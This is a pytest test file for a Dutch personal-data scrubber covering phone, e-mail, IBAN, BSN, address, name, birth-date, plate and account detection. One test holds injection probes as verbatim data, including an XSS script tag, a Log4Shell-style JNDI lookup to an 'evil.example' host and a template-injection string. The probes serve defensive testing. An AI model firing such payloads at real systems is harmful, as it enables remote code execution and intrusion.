"""Scrubbing personal data: every kind, the deliberate non-labels, control characters, and the
dataset-wide recall and precision the issue asks for."""
from __future__ import annotations

import pytest

from services.signals.domain.scrub import (
    ACCOUNT, ADDRESS, BIRTH_DATE, BSN, EMAIL, IBAN, KINDS, NAME, PHONE, PLATE, POSTCODE, bsn_eleven_test,
    contains_control_chars, iban_valid, scrub,
)


def kinds(text: str) -> list[str]:
    return [span.kind for span in scrub(text).found]


# --- phone numbers ------------------------------------------------------------------------------
@pytest.mark.parametrize("number", [
    "06-12345678", "06 12 34 56 78", "0612345678", "+31 6 1234 5678", "+31612345678",
    "010-2114792", "010 211 47 92", "(010) 211 4792", "0031 6 1234 5678", "+32 470 12 34 56",
])
def test_phone_formats(number: str) -> None:
    result = scrub(f"Bel me terug op {number} graag.")
    assert result.text == "Bel me terug op [telefoon] graag."
    assert [s.kind for s in result.found] == [PHONE]


def test_full_width_phone_is_replaced_in_the_original_text() -> None:
    text = "Mijn nummer: ０６－１２３４５６７８, bel na zessen."
    result = scrub(text)
    assert result.text == "Mijn nummer: [telefoon], bel na zessen."
    span = result.found[0]
    assert text[span.start:span.end] == span.value == "０６－１２３４５６７８"


def test_invisible_characters_inside_a_number_do_not_hide_it() -> None:
    assert scrub("bel 06\u200b-1234\u200d5678").text == "bel [telefoon]"


def test_public_and_short_numbers_stay() -> None:
    text = "Gaslucht? Bel direct 0800-9009 of 112. Tel 14 010 voor de gemeente."
    assert scrub(text).text == text


# --- e-mail -------------------------------------------------------------------------------------
@pytest.mark.parametrize("address", [
    "a.petrova@outlook.com", "bc.tarwehof@gmail.com", "alle-huurders@evil.example",
    "s.vanderhorst@student.eur.nl",
])
def test_email_addresses_including_shared_and_attacker_ones(address: str) -> None:
    result = scrub(f"Reactie graag naar {address}.")
    assert result.text == "Reactie graag naar [e-mail]."
    assert result.found[0].kind == EMAIL


def test_obfuscated_email_and_not_matrix_ids_or_mentions() -> None:
    assert scrub("mail piet [at] ziggo [dot] nl").text == "mail [e-mail]"
    text = "[@Beheer](https://matrix.to/#/@admin:evil.example) en @room kijk eens"
    assert scrub(text).text == text


# --- IBAN and BSN -------------------------------------------------------------------------------
def test_iban_checks() -> None:
    assert iban_valid("NL91 ABNA 0417 1643 00")
    assert not iban_valid("NL92 ABNA 0417 1643 00")


@pytest.mark.parametrize("iban", ["NL91ABNA0417164300", "NL91 ABNA 0417 1643 00", "nl91abna0417164300"])
def test_iban_is_scrubbed(iban: str) -> None:
    assert scrub(f"Terugstorten op {iban} aub").text == "Terugstorten op [iban] aub"


def test_dutch_iban_with_a_typo_is_still_scrubbed() -> None:
    # The check digits fail, but it is plainly somebody's account number.
    assert kinds("rekening NL00ABNA0417164300") == [IBAN]


def test_bsn_eleven_test() -> None:
    assert bsn_eleven_test("999614575")
    assert not bsn_eleven_test("231815938")


@pytest.mark.parametrize("text, expected", [
    ("Mijn BSN is 999 614 575, graag checken", "Mijn BSN is [bsn], graag checken"),
    ("BSN 2318.15.938", "BSN [bsn]"),                  # fails the 11-test, but says BSN
    ("mijn bsn is 580245845 kun je checken", "mijn bsn is [bsn] kun je checken"),
    ("burgerservicenummer: 497243735", "burgerservicenummer: [bsn]"),
    ("nummer 999681540 staat op de brief", "nummer [bsn] staat op de brief"),  # passes the 11-test
])
def test_bsn_formats_and_context(text: str, expected: str) -> None:
    result = scrub(text)
    assert result.text == expected
    assert result.found[0].kind == BSN


# --- addresses and postcodes -------------------------------------------------------------------
@pytest.mark.parametrize("text, expected", [
    ("Adres: Spaanse Bocht 88c, 3027 PL Rotterdam.", "Adres: [adres], [postcode] Rotterdam."),
    ("Ik woon aan de Nieuwe Binnenweg 310b in Middelland", "Ik woon aan de [adres] in Middelland"),
    ("Yusuf Demir, Gerststraat 41B, 06-31422635", "[naam], [adres], [telefoon]"),
    ("Cor Bosman, Slinge 1024, BSN 999681540", "[naam], [adres], BSN [bsn]"),
    ("melding lupinestraat 17a: schimmel", "melding [adres]: schimmel"),
    ("postcode 3072eh", "postcode [postcode]"),
])
def test_addresses_and_postcodes(text: str, expected: str) -> None:
    assert scrub(text).text == expected


def test_street_alone_and_years_and_measures_are_not_addresses() -> None:
    for text in ("De kelder aan de Boezemstraat is nat.", "Het Plein 1953 wordt opgeknapt.",
                 "Op Katendrecht is het 32 graden.", "De afrekening 2025 klopt niet.",
                 "Sinds 2017 NL-stijl."):
        assert scrub(text).text == text, text


# --- names --------------------------------------------------------------------------------------
@pytest.mark.parametrize("text, expected", [
    ("Mijn naam is Fatma Yilmaz en ik woon hier.", "Mijn naam is [naam] en ik woon hier."),
    ("Hij heet Wim en reageert niet.", "Hij heet [naam] en reageert niet."),
    ("Graag snel. Rabia Yilmaz", "Graag snel. [naam]"),
    ("Kan er iemand komen?\nNatasha Kromodimedjo\n06-31434980", "Kan er iemand komen?\n[naam]\n[telefoon]"),
    ("Groet, Anouk Reijnders", "Groet, [naam]"),
    ("Met vriendelijke groet,\nA. de Boer", "Met vriendelijke groet,\n[naam]"),
    ("Het gaat om meneer Hoekstra, die naast mij woont.", "Het gaat om meneer [naam], die naast mij woont."),
    ("Dat is niet menswaardig. Mevr. Kortenhoeven, 010-5577367", "Dat is niet menswaardig. Mevr. [naam], [telefoon]"),
    ("Mijn buurvrouw Yvonne van hiernaast schreeuwt.", "Mijn buurvrouw [naam] van hiernaast schreeuwt."),
    ("Jullie medewerker Sandra de Wit belt niet terug.", "Jullie medewerker [naam] belt niet terug."),
    ("Aaltje Kramer-de Vries, 010-3652850", "[naam], [telefoon]"),
    ("Op de bewonersavond.\nAhmed El Khatib, voorzitter", "Op de bewonersavond.\n[naam], voorzitter"),
    ("Wij willen blijven wonen. Kees en Riet Blom", "Wij willen blijven wonen. [naam] en [naam]"),
    ("Contact: 06-44105195 (Willem).", "Contact: [telefoon] ([naam])."),
    ("Naam: Sietske Bos. Adres: Wolphaertsbocht 233", "Naam: [naam]. Adres: [adres]"),
    ("Medewerker: Rob. Klant: Miriam Boukhari.", "Medewerker: [naam]. Klant: [naam]."),
    ("Gülsen Kaya, 06 12 28 72 96", "[naam], [telefoon]"),
    ("Thanks, Daniel Okafor", "Thanks, [naam]"),
    ("Klacht over buurman Kees (Spinozaweg). Groet, Priscilla Doelwijt",
     "Klacht over buurman [naam] (Spinozaweg). Groet, [naam]"),
])
def test_names_in_context(text: str, expected: str) -> None:
    assert scrub(text).text == expected


def test_every_occurrence_of_a_name_is_replaced() -> None:
    text = "Kees heeft honden. Ik heb Kees al gevraagd. Groet, Priscilla Doelwijt"
    assert scrub(text).text == "[naam] heeft honden. Ik heb [naam] al gevraagd. Groet, [naam]"


@pytest.mark.parametrize("text", [
    "De portiekdeur aan de Claes de Vrieselaan (Middelland) valt niet in het slot.",
    "Bij vier huishoudens aan de Paul Krugerstraat zijn bankpassen gestolen.",
    "Voor de renovatie van ons blok aan de Jacob Catsstraat moeten we weg.",
    "Verkiezingen voor de bewonerscommissie van het Justus van Effencomplex in Spangen.",
    "schoonmaakbedrijf Hendriks & Zn komt wel maar dweilt met vies water",
    "Mijn klantnummer is 20418877, inschrijfnummer 1234567, dossier 2024-00123.",
    "Ik betaal €734,20 per maand en de kale huur is €1.012.",
    "Ik heb meegedaan aan het project 'Warm Wonen' bij De Linde en De Batavier.",
    "Woonstad en Havensteder, bij de Albert Heijn in Prins Alexander.",
])
def test_deliberate_non_labels_stay(text: str) -> None:
    assert scrub(text).text == text


def test_known_places_are_never_names(rotterdam) -> None:
    text = "Schimmel overal. Tarwewijk, Tarwestraat 19. Ilse Buijs"
    assert scrub(text, known_places=rotterdam.names).text == "Schimmel overal. Tarwewijk, [adres]. [naam]"


# --- control characters and the shape of the result ---------------------------------------------
def test_bidi_and_invisible_characters_are_removed() -> None:
    text = "lekkage \u202eepyt\u202c in de\u200b hal\ufeff\u2066x\u2069 en \u200f nu"
    result = scrub(text)
    assert not contains_control_chars(result.text)
    assert result.text == "lekkage epyt in de halx en  nu"


def test_text_shown_reversed_by_an_rtl_override_is_checked_as_shown() -> None:
    # logically "87654321-60", on screen "06-12345678"
    result = scrub("Bel me op \u202e87654321-60\u202c graag")
    assert result.text == "Bel me op [telefoon] graag"
    assert result.found[0].value == "87654321-60"


def test_line_and_paragraph_separators_become_newlines() -> None:
    assert scrub("regel een\u2028regel twee\u2029drie").text == "regel een\nregel twee\ndrie"


def test_spans_point_into_the_input_text() -> None:
    text = "\u202eHallo\u202c, bel 06-12345678 of mail a@b.nl. Groet, Jan Jansen"
    result = scrub(text)
    assert [s.kind for s in result.found] == [PHONE, EMAIL, NAME]
    for span in result.found:
        assert text[span.start:span.end] == span.value
        assert span.placeholder == f"[{span.kind}]"


def test_scrub_is_idempotent(dev_records) -> None:
    for record in dev_records:
        once = scrub(record["text"]).text
        assert scrub(once).text == once, record["id"]


def test_markup_and_injection_are_kept_verbatim() -> None:
    for text in ("<script>alert(1)</script> de verwarming doet het niet",
                 "${jndi:ldap://evil.example/a} {{7*7}} geen warm water",
                 "\x1b[31mURGENT\x1b[0m de voordeur sluit niet"):
        assert scrub(text).text == text


def test_kinds_of_the_result() -> None:
    result = scrub("Piet Jansen, Lupinestraat 17a, 3074 EM, NL91ABNA0417164300, 06-12345678, p@q.nl")
    assert result.kinds == {NAME, ADDRESS, POSTCODE, IBAN, PHONE, EMAIL}


# --- issue 12, point 10: families the scrubber missed ---------------------------------------------
# Each family with several variants of our own; the expected text shows what must go and what stays.
def scrubbed(text: str) -> str:
    return scrub(text).text


@pytest.mark.parametrize("text, expected", [
    ("Mail me op piet @ example.org graag.", "Mail me op [e-mail] graag."),
    ("reageer naar j.devries@ hotmail.com", "reageer naar [e-mail]"),
    ("mijn adres is kees.jansen @gmail.com, bedankt", "mijn adres is [e-mail], bedankt"),
    ("Stuur het naar sanne_01  @  live.nl.", "Stuur het naar [e-mail]."),
    ("mailen kan: a.bakker @ woonstad . nl", "mailen kan: [e-mail]"),
    ("mijn mail is sanne apenstaartje ziggo.nl", "mijn mail is [e-mail]"),
    ("mail naar piet at ziggo punt nl", "mail naar [e-mail]"),
])
def test_email_with_spaces_around_the_at(text: str, expected: str) -> None:
    assert scrubbed(text) == expected
    assert EMAIL in scrub(text).kinds


def test_an_at_sign_in_a_sentence_is_no_email() -> None:
    for text in ("We zijn @ home om 10.30 uur", "Prijs @ 5 euro per stuk", "@room de lift is weer kapot"):
        assert scrubbed(text) == text


@pytest.mark.parametrize("text, expected", [
    ("ik ben jan de wit en ik woon hier al 20 jaar", "ik ben [naam] en ik woon hier al 20 jaar"),
    ("Ik ben Jan de wit, bewoner van de Tarwehof.", "Ik ben [naam], bewoner van de Tarwehof."),
    ("hallo, ik ben fatima el amrani uit Carnisse", "hallo, ik ben [naam] uit Carnisse"),
    ("ik heet piet jansen, bel me", "ik heet [naam], bel me"),
    ("mijn naam is sanne van der berg. De kraan lekt.", "mijn naam is [naam]. De kraan lekt."),
    ("Mijn naam is Mohamed. De lift is kapot.", "Mijn naam is [naam]. De lift is kapot."),
    ("u spreekt met anna bakker van nummer 12", "u spreekt met [naam] van [adres]"),
    ("Hello, my name is john smith and the heating fails", "Hello, my name is [naam] and the heating fails"),
])
def test_self_introductions_also_without_capitals(text: str, expected: str) -> None:
    assert scrubbed(text) == expected


@pytest.mark.parametrize("text", [
    "ik ben boos over de lift", "ik ben de moeder van twee kinderen", "Ik ben al jaren huurder hier.",
    "ik ben het zat", "Ik ben mantelzorger voor mijn vader.", "ik ben er klaar mee",
])
def test_ik_ben_without_a_name_stays(text: str) -> None:
    assert scrubbed(text) == text


@pytest.mark.parametrize("text, expected", [
    ("Henk en Riet de Vries hebben last van de lekkage.", "[naam] en [naam] hebben last van de lekkage."),
    ("Bij Ahmed en Fatima Yilmaz lekt het dak.", "Bij [naam] en [naam] lekt het dak."),
    ("Kees, Anna en Joop Blom willen meedoen.", "[naam], [naam] en [naam] willen meedoen."),
    ("Mijn buren Piet & Ans Jansen klagen ook.", "Mijn buren [naam] & [naam] klagen ook."),
    ("Gisteren waren Sanne en Willem Bakker hier.", "Gisteren waren [naam] en [naam] hier."),
])
def test_a_first_name_joined_to_a_name(text: str, expected: str) -> None:
    assert scrubbed(text) == expected


def test_places_joined_with_en_stay() -> None:
    for text in ("Ervaringen in Bospolder en Oud Crooswijk laten zien dat het werkt.",
                 "Hendriks & Zn komt wel maar dweilt slecht.", "Woonstad en Havensteder doen mee."):
        assert scrubbed(text) == text


@pytest.mark.parametrize("text, expected", [
    ("Het lekt bij huisnummer 214 al weken.", "Het lekt bij [adres] al weken."),
    ("huisnr. 12a heeft ook schimmel", "[adres] heeft ook schimmel"),
    ("Woningnummer: 3-B, tweede etage", "[adres], tweede etage"),
    ("Huis nr 45 en hnr 7 ook", "[adres] en [adres] ook"),
    ("de buren op nummer 17 horen het ook", "de buren op [adres] horen het ook"),
    ("Bij nr. 23b staat de deur open", "Bij [adres] staat de deur open"),
])
def test_house_numbers_given_on_their_own(text: str, expected: str) -> None:
    assert scrubbed(text) == expected


def test_numbers_that_are_no_house_stay() -> None:
    for text in ("Dit staat bij ons op nummer 1.", "Bus 38 rijdt niet meer.", "klantnummer 214 is bekend",
                 "Er zijn 214 woningen in het complex."):
        assert scrubbed(text) == text


@pytest.mark.parametrize("text, expected", [
    ("Mijn postcode is 3012cd.", "Mijn postcode is [postcode]."),
    ("ik woon in 3072ap, bij de Maas", "ik woon in [postcode], bij de Maas"),
    ("adres: Lupinestraat 17, 3074 em Rotterdam", "adres: [adres], [postcode] Rotterdam"),
    ("wij zitten in 3083Cs", "wij zitten in [postcode]"),
])
def test_postcodes_typed_without_capitals(text: str, expected: str) -> None:
    assert scrubbed(text) == expected


def test_units_and_words_after_four_digits_stay() -> None:
    for text in ("De container weegt 1500 kg en is 2000 mm breed.", "Sinds 2017 en nog steeds.",
                 "In 2024 is de huur verhoogd.", "We betalen 1200 eu per jaar", "Een schijf van 1000gb"):
        assert scrubbed(text) == text


@pytest.mark.parametrize("text, expected", [
    ("Ik ben geboren op 12 maart 1985.", "Ik ben geboren op [geboortedatum]."),
    ("geboortedatum: 03-04-1962", "geboortedatum: [geboortedatum]"),
    ("Jan (geb. 5-6-1970) woont alleen", "Jan (geb. [geboortedatum]) woont alleen"),
    ("Mijn geboortedatum is 1 januari 1950.", "Mijn geboortedatum is [geboortedatum]."),
    ("geboren 12/03/85, huurder sinds 2001", "geboren [geboortedatum], huurder sinds 2001"),
    ("Date of birth: May 5, 1990.", "Date of birth: [geboortedatum]."),
    ("born on 3rd June 1977", "born on [geboortedatum]"),
    ("geboren op 1985-03-12", "geboren op [geboortedatum]"),
])
def test_birth_dates(text: str, expected: str) -> None:
    assert scrubbed(text) == expected
    assert BIRTH_DATE in scrub(text).kinds


def test_other_dates_stay() -> None:
    for text in ("Op 12 maart 2025 kwam de monteur.", "De brief van 03-04-2024 is onduidelijk.",
                 "Vanaf 1 juli gaat de huur omhoog."):
        assert scrubbed(text) == text


@pytest.mark.parametrize("plate", [
    "12-ABC-3", "GH-123-K", "1-KBB-23", "XX-99-99", "99-XX-99", "99-99-XX", "XX-99-XX", "XX-XX-99",
    "99-XX-XX", "K-123-BB", "ABC-12-D", "G-12-BBB", "1-AB-123", "123-AB-1",
])
def test_licence_plates_in_every_sidecode(plate: str) -> None:
    result = scrub(f"Er staat al weken een auto met {plate} voor de deur.")
    assert result.text == "Er staat al weken een auto met [kenteken] voor de deur."
    assert result.kinds == {PLATE}


def test_plates_typed_loosely_next_to_the_word_kenteken() -> None:
    assert scrubbed("kenteken 12abc3 staat op de invalidenplek") == "kenteken [kenteken] staat op de invalidenplek"
    assert scrubbed("Het busje (kenteken: vt-123-b) blokkeert de uitrit") == \
        "Het busje (kenteken: [kenteken]) blokkeert de uitrit"


def test_numbers_that_look_like_plates_stay() -> None:
    for text in ("Datum 12-03-85 en 2024-2025.", "Bel 14 010.", "de storing van 06-12 tot 08-12.", "Artikel 7-248 BW"):
        assert scrubbed(text) == text


@pytest.mark.parametrize("link", [
    "facebook.com/piet.jansen.9", "https://www.facebook.com/profile.php?id=100012345678",
    "https://www.instagram.com/sanne_b/", "instagram.com/kees.bakker", "linkedin.com/in/jan-de-wit-12345",
    "https://x.com/pietjansen", "twitter.com/anna_v", "https://www.tiktok.com/@sanne.b",
    "https://mastodon.social/@piet", "youtube.com/@familiedevries",
])
def test_social_media_profile_links(link: str) -> None:
    result = scrub(f"Kijk op mijn profiel {link} voor de foto's.")
    assert result.text == "Kijk op mijn profiel [account] voor de foto's."
    assert result.kinds == {ACCOUNT}


def test_handles_named_with_their_platform() -> None:
    assert scrubbed("Volg me op insta @piet_jansen of tiktok: @sanne.b.") == \
        "Volg me op insta [account] of tiktok: [account]."
    assert scrubbed("ik zit op mastodon als @anna@mastodon.nl") == "ik zit op mastodon als [account]"


@pytest.mark.parametrize("mxid", [
    "@piet:example.org", "@jan.dewit:matrix.woonstad.nl", "@fatima_e:localhost", "@kees-01:chat.example.com:8448",
])
def test_matrix_ids(mxid: str) -> None:
    result = scrub(f"Stuur een bericht aan {mxid} over de lift.")
    assert result.text == "Stuur een bericht aan [account] over de lift."
    assert result.kinds == {ACCOUNT}


def test_matrix_ids_of_functional_accounts_and_room_pings_stay() -> None:
    for text in ("Meld het bij @beheer:woonstad.nl", "@room de lift is kapot", "@overleg:localhost reageert niet",
                 "#klantenraad:example.org is de kamer", "[klik](https://evil.example/x) @room kijk",
                 "op twitter @room zeggen ze het ook", "@anna:test is geen volledig id"):
        assert scrubbed(text) == text


@pytest.mark.parametrize("text, expected", [
    ("Kandidaat: Jan de Vries", "Kandidaat: [naam]"),
    ("Namens: fatima el amrani", "Namens: [naam]"),
    ("Namens: Mohamed Ouali, bewoner", "Namens: [naam], bewoner"),
    ("Aanvrager: A. Bakker", "Aanvrager: [naam]"),
    ("Voorzitter: Sandra Pauwels, secretaris: kees de jong", "Voorzitter: [naam], secretaris: [naam]"),
    ("Indiener: Piet van den Berg\nDe goot lekt.", "Indiener: [naam]\nDe goot lekt."),
    ("Applicant: Maria Lopez", "Applicant: [naam]"),
])
def test_a_name_after_a_role_label(text: str, expected: str) -> None:
    assert scrubbed(text) == expected


def test_a_role_label_before_an_organisation_stays() -> None:
    for text in ("Namens: de bewonerscommissie Tarwehof", "Namens de huurders van de Tarwehof",
                 "Voorzitter: vacature"):
        assert scrubbed(text) == text


def test_the_new_kinds_are_listed() -> None:
    assert {BIRTH_DATE, PLATE, ACCOUNT} <= set(KINDS)


# --- the dataset --------------------------------------------------------------------------------
def test_dataset_recall_and_precision_meet_the_issue(dev_records, rotterdam, quality) -> None:
    places = quality.known_places(rotterdam)
    results = {r["id"]: scrub(r["text"], known_places=places) for r in dev_records}
    scores = quality.scrub_scores(dev_records, results)
    assert scores.items > 100 and scores.spans > 100
    assert scores.recall >= 0.95, scores.misses
    assert scores.precision >= 0.9, scores.false_spans


def test_dataset_recall_and_precision_without_known_places(dev_records, quality) -> None:
    results = {r["id"]: scrub(r["text"]) for r in dev_records}
    scores = quality.scrub_scores(dev_records, results)
    assert scores.recall >= 0.95, scores.misses
    assert scores.precision >= 0.9, scores.false_spans
